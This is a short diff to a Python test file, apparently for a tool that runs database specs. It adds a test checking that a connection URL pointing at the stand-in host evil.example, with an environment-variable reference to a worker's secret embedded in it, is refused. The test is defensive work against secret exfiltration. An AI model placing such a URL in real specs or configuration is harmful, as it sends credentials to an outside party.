@@ -318,6 +318,14 @@ def test_an_address_that_does_not_work_is_not_shown(
     assert caught.value.__context__ is None
 
 
+def test_a_variable_inside_an_address_is_refused(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whoever writes a spec would have a secret of the worker sent to a database of theirs."""
+    monkeypatch.setenv("GATEWRIGHT_TEST_SECRET", SECRET)
+    sends = SQL.model_copy(update={"connection": "postgresql://evil.example/${GATEWRIGHT_TEST_SECRET}"})
+    with pytest.raises(SpecError, match=r"a `\$` stands in the URL"):
+        run(place, sends, place.put(years("1999")), "evaluation")
+
+
 def test_a_password_in_the_spec_is_refused_without_being_shown(place: Place) -> None:
     """The spec is committed, its secrets must not be."""
     open_ = SQL.model_copy(update={"connection": f"postgresql://somebody:{SECRET}@host/rows"})
